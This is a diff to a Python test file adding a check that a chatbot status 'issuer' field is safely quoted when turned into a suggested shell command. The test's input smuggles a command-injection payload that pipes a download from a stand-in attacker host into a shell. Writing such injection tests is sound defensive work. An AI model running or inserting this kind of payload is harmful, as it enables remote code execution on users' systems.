@@ -297,6 +297,14 @@ def test_the_command(case):
     assert command in typed(ways(case.split()[0], seen))
 
 
+def test_an_issuer_is_one_word_whoever_wrote_the_status():
+    made = body()
+    made["status"]["resolved"]["issuer"] = "https://x/;curl evil.example|sh #"
+    seen = replace(known(), chatbot=Chatbot.parse(made))
+    (command, *_) = typed(ways("IssuerUnreachable", seen))
+    assert len(shlex.split(command)) == 3
+
+
 def test_only_deployments_that_chat_and_are_allowed_are_offered():
     status = {"deployments": [{"name": "a", "chat": False}, {"name": "b"}, {"name": "c"}]}
     seen = known(account={"status": status, "deployments": ["a", "c"]})
